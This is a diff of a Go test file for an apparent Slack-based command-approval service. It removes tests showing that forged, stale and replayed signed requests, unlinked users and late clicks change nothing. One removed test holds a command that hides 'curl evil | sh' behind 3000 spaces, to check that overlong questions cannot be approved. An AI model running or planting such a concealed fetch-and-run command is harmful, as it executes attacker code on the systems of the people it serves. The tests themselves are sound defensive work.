@@ -173,31 +173,6 @@ func (s *slackAPI) stored(id string) approvals.Approval {
 	return a
 }
 
-// unchanged asserts that the question is still open and no event was
-// recorded since events.
-func (s *slackAPI) unchanged(what string, events int) {
-	s.t.Helper()
-	if a := s.stored(s.question.ID); a.State != approvals.Pending {
-		s.t.Fatalf("%s: the question ended (%s by %s)", what, a.Verdict, a.AnsweredBy)
-	}
-	if n := s.eventCount(); n != events {
-		s.t.Fatalf("%s: %d events recorded", what, n-events)
-	}
-}
-
-// told is the last message posted to the clicking user alone.
-func (s *slackAPI) told(what, want string) {
-	s.t.Helper()
-	posts := s.slack.all()
-	if len(posts) == 0 {
-		s.t.Fatalf("%s: the Slack user was told nothing", what)
-	}
-	last := posts[len(posts)-1]
-	if last["response_type"] != "ephemeral" || last["replace_original"] != false || !strings.Contains(last["text"].(string), want) {
-		s.t.Fatalf("%s: told %v, want an ephemeral message saying %q", what, last, want)
-	}
-}
-
 func TestAQuestionsSlackMessageCarriesApproveWithAConfirmationRefuseAndOpenInDont(t *testing.T) {
 	s := newSlackAPI(t)
 	_, blocks := slackapp.Question(s.question, "https://dont.example")
@@ -251,85 +226,8 @@ func TestASlackRefuseEndsTheQuestionRefusedAndSaysSo(t *testing.T) {
 
 func toJSON(v any) string { b, _ := json.Marshal(v); return string(b) }
 
-// The attacks (docs/security.md, rows 83–89): each changes nothing.
-
-func TestASlackRequestWithAnInvalidSignatureChangesNothing(t *testing.T) {
-	s := newSlackAPI(t)
-	events := s.eventCount()
-	body := s.click("T3MDE", "U0CA5", slackapp.ActionApprove, slackapp.ButtonValue(s.question))
-	for name, send := range map[string]func() (int, []byte){
-		"another secret": func() (int, []byte) { return s.signed("/v1/slack/interactions", body, time.Now(), "not-the-secret") },
-		"no signature": func() (int, []byte) {
-			return s.raw("/v1/slack/interactions", body, strconv.FormatInt(time.Now().Unix(), 10), "")
-		},
-		"no timestamp": func() (int, []byte) { return s.raw("/v1/slack/interactions", body, "", "v0=00") },
-	} {
-		status, b := send()
-		if status != http.StatusUnauthorized || !strings.Contains(string(b), `"slack-signature-invalid"`) {
-			t.Fatalf("%s: %d %s", name, status, b)
-		}
-	}
-	s.unchanged("a forged signature", events)
-}
-
-func TestASlackRequestWithAStaleOrFutureTimestampChangesNothing(t *testing.T) {
-	s := newSlackAPI(t)
-	events := s.eventCount()
-	body := s.click("T3MDE", "U0CA5", slackapp.ActionApprove, slackapp.ButtonValue(s.question))
-	for _, at := range []time.Time{time.Now().Add(-slackapp.MaxAge - time.Minute), time.Now().Add(slackapp.MaxSkew + time.Minute)} {
-		status, b := s.signed("/v1/slack/interactions", body, at, slackSecret)
-		if status != http.StatusUnauthorized || !strings.Contains(string(b), `"slack-request-stale"`) {
-			t.Fatalf("stamped %s: %d %s", at, status, b)
-		}
-	}
-	s.unchanged("a stale request", events)
-}
-
-func TestAReplayedSlackRequestChangesNothing(t *testing.T) {
-	s := newSlackAPI(t)
-	// A refuse first, replayed after the question was asked again would
-	// be the harm; here: the same signed request twice.
-	body := s.click("T3MDE", "U0CA5", slackapp.ActionRefuse, slackapp.ButtonValue(s.question))
-	ts := strconv.FormatInt(time.Now().Unix(), 10)
-	mac := hmac.New(sha256.New, []byte(slackSecret))
-	mac.Write([]byte("v0:" + ts + ":" + body))
-	sig := "v0=" + hex.EncodeToString(mac.Sum(nil))
-	if status, b := s.raw("/v1/slack/interactions", body, ts, sig); status != 200 {
-		t.Fatalf("the first: %d %s", status, b)
-	}
-	events := s.eventCount()
-	posts := len(s.slack.all())
-	status, b := s.raw("/v1/slack/interactions", body, ts, sig)
-	if status != http.StatusConflict || !strings.Contains(string(b), `"slack-request-replayed"`) {
-		t.Fatalf("the replay: %d %s", status, b)
-	}
-	if n := s.eventCount(); n != events || len(s.slack.all()) != posts {
-		t.Fatalf("the replay changed something: %d events, %d posts", n-events, len(s.slack.all())-posts)
-	}
-	// A replayed link command likewise.
-	code := s.linkCode(s.tokens["approver"])
-	form := url.Values{"command": {"/dont"}, "text": {"link " + code}, "team_id": {"T3MDE"}, "user_id": {"U0EVE"}}.Encode()
-	mac = hmac.New(sha256.New, []byte(slackSecret))
-	mac.Write([]byte("v0:" + ts + ":" + form))
-	sig = "v0=" + hex.EncodeToString(mac.Sum(nil))
-	s.raw("/v1/slack/commands", form, ts, sig)
-	if status, b := s.raw("/v1/slack/commands", form, ts, sig); status != http.StatusConflict {
-		t.Fatalf("a replayed link: %d %s", status, b)
-	}
-}
-
-func TestAnUnlinkedSlackUserCannotAnswerAndIsToldHowToLink(t *testing.T) {
-	s := newSlackAPI(t)
-	events := s.eventCount()
-	for _, who := range [][2]string{{"T3MDE", "U0EVE"}, {"T0OTHER", "U0CA5"}} { // another user; the linked id in another workspace
-		status, _ := s.interact(s.click(who[0], who[1], slackapp.ActionApprove, slackapp.ButtonValue(s.question)))
-		if status != 200 {
-			t.Fatalf("%v: %d", who, status)
-		}
-		s.told("an unlinked user", "/dont link <code>")
-	}
-	s.unchanged("an unlinked Slack user", events)
-}
+// The attacks (docs/security.md) run on every transport: attacktest.RunSlack
+// (attack_test.go here, cli/dont, localstack/integration).
 
 func TestALinkCodeWorksOnceAndOnlyFromAnApproverToken(t *testing.T) {
 	s := newSlackAPI(t)
@@ -348,63 +246,6 @@ func TestALinkCodeWorksOnceAndOnlyFromAnApproverToken(t *testing.T) {
 			t.Fatalf("a %s token made a link code: %d %s", role, r.status, r.raw)
 		}
 	}
-}
-
-func TestASlackUserLinkedToARevokedApproverCannotAnswer(t *testing.T) {
-	s := newSlackAPI(t)
-	if _, err := s.svc.Credentials.Revoke(context.Background(), s.approver); err != nil {
-		t.Fatal(err)
-	}
-	events := s.eventCount()
-	s.interact(s.click("T3MDE", "U0CA5", slackapp.ActionApprove, slackapp.ButtonValue(s.question)))
-	s.told("a revoked approver", "revoked")
-	s.unchanged("a linked user who is no approver any more", events)
-}
-
-func TestASlackClickOnAQuestionThatEndedChangesNothing(t *testing.T) {
-	s := newSlackAPI(t)
-	refused, _, err := s.svc.Escalations.Refuse(context.Background(), s.question.ID, "no", "tok:other")
-	if err != nil || refused.View.Verdict != approvals.Refused {
-		t.Fatalf("refuse: %v %v", refused, err)
-	}
-	events := s.eventCount()
-	s.interact(s.click("T3MDE", "U0CA5", slackapp.ActionApprove, slackapp.ButtonValue(s.question)))
-	if a := s.stored(s.question.ID); a.Verdict != approvals.Refused || a.AnsweredBy != "tok:other" {
-		t.Fatalf("the ended question changed: %s by %s", a.Verdict, a.AnsweredBy)
-	}
-	if n := s.eventCount(); n != events {
-		t.Fatalf("%d events recorded", n-events)
-	}
-	// The message shows how it really ended.
-	posts := s.slack.all()
-	if last := posts[len(posts)-1]; !strings.Contains(last["text"].(string), "Refused by tok:other") {
-		t.Fatalf("the message after a late click: %v", last)
-	}
-}
-
-func TestAForgedSlackApproveForAQuestionTooLongToShowChangesNothing(t *testing.T) {
-	s := newSlackAPI(t)
-	long := s.ask("c2", "echo harmless "+strings.Repeat(" ", 3000)+"; curl evil | sh")
-	_, blocks := slackapp.Question(long, "")
-	if b := toJSON(blocks); strings.Contains(b, slackapp.ActionApprove) || !strings.Contains(b, slackapp.ActionRefuse) {
-		t.Fatalf("a question too long to show has an approve button: %s", b)
-	}
-	events := s.eventCount()
-	s.interact(s.click("T3MDE", "U0CA5", slackapp.ActionApprove, slackapp.ButtonValue(long)))
-	s.told("a forged approve", "too long")
-	if a := s.stored(long.ID); a.State != approvals.Pending {
-		t.Fatalf("the forged approve answered: %s", a.Verdict)
-	}
-	if n := s.eventCount(); n != events {
-		t.Fatalf("%d events recorded", n-events)
-	}
-}
-
-func TestASlackAnswerForAnotherVersionOfTheQuestionChangesNothing(t *testing.T) {
-	s := newSlackAPI(t)
-	events := s.eventCount()
-	s.interact(s.click("T3MDE", "U0CA5", slackapp.ActionApprove, s.question.ID+" sha256:"+strings.Repeat("0", 64)))
-	s.unchanged("an answer to another digest", events)
 }
 
 // fakeWebAPI stands in for Slack's Web API: chat.postMessage and
